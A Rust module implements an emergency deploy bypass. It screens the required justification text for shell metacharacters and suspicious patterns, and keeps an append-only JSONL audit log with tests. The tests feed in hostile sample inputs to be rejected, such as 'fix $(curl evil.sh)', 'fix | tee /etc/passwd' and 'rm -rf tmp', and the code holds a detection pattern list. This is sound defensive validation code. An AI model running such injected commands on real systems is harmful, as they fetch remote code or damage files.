//! Emergency bypass with justification screening and an audit trail.
//!
//! A bypass must be explicitly requested (`--force-deploy`) and justified
//! (`--justification <text>`). The justification is screened for shell
//! metacharacters and suspicious patterns before it goes anywhere near a
//! log line. Every accepted bypass appends an [`AuditEntry`].

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::OnceLock;
use std::time::Duration;

use anyhow::{Context, Result};
use chrono::Utc;
use regex::Regex;
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};

use crate::proc::run_with_timeout;

/// Default audit log file name
pub const AUDIT_LOG_FILE: &str = "workflow_audit.log";

/// Minimum justification length after trimming.
pub const MIN_JUSTIFICATION_LENGTH: usize = 10;

/// Characters that could smuggle shell syntax into downstream tooling.
const DANGEROUS_CHARS: [char; 13] = [
    '$', '`', '\\', ';', '|', '&', '>', '<', '(', ')', '{', '}', '\n',
];

fn suspicious_patterns() -> &'static [Regex] {
    static PATTERNS: OnceLock<Vec<Regex>> = OnceLock::new();
    PATTERNS.get_or_init(|| {
        [r"(?i)rm\s+-rf", r"(?i)sudo\s+", r"\$\(", r"`.*`"]
            .iter()
            .filter_map(|p| Regex::new(p).ok())
            .collect()
    })
}

/// Get the audit log path for a state directory
pub fn audit_log_path(state_dir: &Path) -> PathBuf {
    state_dir.join(AUDIT_LOG_FILE)
}

/// A parsed bypass request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BypassRequest {
    pub justification: Option<String>,
}

impl BypassRequest {
    /// Extract a bypass request from CLI-style arguments. Returns `None`
    /// when `--force-deploy` is absent.
    pub fn from_args<S: AsRef<str>>(args: &[S]) -> Option<Self> {
        let args: Vec<&str> = args.iter().map(AsRef::as_ref).collect();
        if !args.contains(&"--force-deploy") {
            return None;
        }

        let justification = args
            .iter()
            .position(|a| *a == "--justification")
            .and_then(|idx| args.get(idx + 1))
            .map(|s| s.to_string());

        Some(Self { justification })
    }
}

/// Validate a justification string. Returns the rejection reason on
/// failure.
pub fn validate_justification(justification: Option<&str>) -> Result<(), String> {
    let Some(justification) = justification else {
        return Err("justification is required with --force-deploy".to_string());
    };

    if justification.trim().len() < MIN_JUSTIFICATION_LENGTH {
        return Err(format!(
            "justification must be at least {MIN_JUSTIFICATION_LENGTH} characters"
        ));
    }

    if let Some(c) = justification.chars().find(|c| DANGEROUS_CHARS.contains(c)) {
        return Err(format!(
            "justification contains dangerous character '{}'; use only plain text",
            c.escape_default()
        ));
    }

    if suspicious_patterns().iter().any(|p| p.is_match(justification)) {
        return Err(
            "justification contains suspicious patterns; provide a simple explanation".to_string(),
        );
    }

    Ok(())
}

/// One audit log entry, one JSONL line.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct AuditEntry {
    pub timestamp: String,
    pub event: String,
    pub user: String,
    pub justification: String,
    #[serde(default)]
    pub metadata: Map<String, Value>,
}

/// Append-only audit logger for bypass events.
#[derive(Debug, Clone)]
pub struct AuditLogger {
    log_file: PathBuf,
}

impl AuditLogger {
    /// Logger writing under a state directory.
    pub fn new(state_dir: &Path) -> Self {
        Self {
            log_file: audit_log_path(state_dir),
        }
    }

    /// Path to the audit log.
    pub fn path(&self) -> &Path {
        &self.log_file
    }

    /// Record an accepted bypass. The justification must already have
    /// passed [`validate_justification`].
    pub fn log_bypass(&self, justification: &str, metadata: Map<String, Value>) -> Result<()> {
        let entry = AuditEntry {
            timestamp: Utc::now().to_rfc3339(),
            event: "emergency_bypass".to_string(),
            user: current_user(),
            justification: justification.to_string(),
            metadata,
        };

        let line = serde_json::to_string(&entry).context("serialize audit entry")?;
        triadic_io::append_line(&self.log_file, &line)
            .with_context(|| format!("append to {}", self.log_file.display()))
    }

    /// Most recent bypass entries, newest first. Malformed lines are
    /// skipped.
    pub fn recent(&self, limit: usize) -> Vec<AuditEntry> {
        let Ok(content) = std::fs::read_to_string(&self.log_file) else {
            return Vec::new();
        };

        let mut entries: Vec<AuditEntry> = content
            .lines()
            .filter_map(|line| serde_json::from_str(line).ok())
            .filter(|e: &AuditEntry| e.event == "emergency_bypass")
            .collect();
        entries.reverse();
        entries.truncate(limit);
        entries
    }
}

/// Identify the user for the audit trail: git identity first, OS user
/// next, "unknown" last.
pub fn current_user() -> String {
    if let Some(git_user) = git_identity() {
        return git_user;
    }
    let os_user = whoami::username();
    if os_user.is_empty() {
        "unknown".to_string()
    } else {
        os_user
    }
}

fn git_identity() -> Option<String> {
    let name = git_config("user.name")?;

    match git_config("user.email") {
        Some(email) => Some(format!("{name} <{email}>")),
        None => Some(name),
    }
}

fn git_config(key: &str) -> Option<String> {
    let mut command = Command::new("git");
    command.args(["config", key]);

    let output = run_with_timeout(command, Duration::from_secs(2)).ok()?;
    if !output.status_success {
        return None;
    }
    let value = output.stdout.trim().to_string();
    (!value.is_empty()).then_some(value)
}

#[cfg(test)]
mod tests {
    use tempfile::tempdir;

    use super::*;

    #[test]
    fn from_args_requires_force_flag() {
        let args = ["deploy", "--justification", "reason"];
        assert_eq!(BypassRequest::from_args(&args), None);
    }

    #[test]
    fn from_args_extracts_justification() {
        let args = ["--force-deploy", "--justification", "Critical hotfix for bug 1234"];
        let request = BypassRequest::from_args(&args).expect("request");
        assert_eq!(
            request.justification.as_deref(),
            Some("Critical hotfix for bug 1234")
        );
    }

    #[test]
    fn from_args_handles_missing_justification_value() {
        let args = ["--force-deploy", "--justification"];
        let request = BypassRequest::from_args(&args).expect("request");
        assert_eq!(request.justification, None);
    }

    #[test]
    fn too_short_justification_is_rejected() {
        let err = validate_justification(Some("ok")).expect_err("must fail");
        assert!(err.contains("at least 10"));
    }

    #[test]
    fn missing_justification_is_rejected() {
        let err = validate_justification(None).expect_err("must fail");
        assert!(err.contains("required"));
    }

    #[test]
    fn dangerous_characters_are_rejected() {
        for bad in [
            "fix $(curl evil.sh)",
            "fix; rm everything",
            "fix | tee /etc/passwd",
            "fix > /dev/null now",
            "fix {expansion} trick",
        ] {
            assert!(validate_justification(Some(bad)).is_err(), "accepted: {bad}");
        }
    }

    #[test]
    fn suspicious_patterns_are_rejected() {
        let err = validate_justification(Some("Critical hotfix rm -rf tmp")).expect_err("fail");
        assert!(err.contains("suspicious"));

        assert!(validate_justification(Some("sudo restart the service")).is_err());
    }

    #[test]
    fn plain_justification_is_accepted() {
        assert!(validate_justification(Some("Critical hotfix for production bug 1234")).is_ok());
    }

    #[test]
    fn log_bypass_appends_audit_entry() {
        let td = tempdir().expect("tempdir");
        let logger = AuditLogger::new(td.path());

        logger
            .log_bypass("Critical hotfix for production bug 1234", Map::new())
            .expect("log");

        let entries = logger.recent(10);
        assert_eq!(entries.len(), 1);
        assert_eq!(entries[0].justification, "Critical hotfix for production bug 1234");
        assert_eq!(entries[0].event, "emergency_bypass");
        assert!(!entries[0].user.is_empty());
        assert!(!entries[0].timestamp.is_empty());
    }

    #[test]
    fn recent_returns_newest_first_and_respects_limit() {
        let td = tempdir().expect("tempdir");
        let logger = AuditLogger::new(td.path());

        for i in 0..5 {
            logger
                .log_bypass(&format!("justified bypass number {i}"), Map::new())
                .expect("log");
        }

        let entries = logger.recent(2);
        assert_eq!(entries.len(), 2);
        assert!(entries[0].justification.ends_with('4'));
        assert!(entries[1].justification.ends_with('3'));
    }

    #[test]
    fn recent_skips_malformed_lines() {
        let td = tempdir().expect("tempdir");
        let logger = AuditLogger::new(td.path());

        triadic_io::append_line(logger.path(), "not json at all").expect("append");
        logger
            .log_bypass("justified bypass entry here", Map::new())
            .expect("log");

        assert_eq!(logger.recent(10).len(), 1);
    }

    #[test]
    fn current_user_never_empty() {
        assert!(!current_user().is_empty());
    }
}
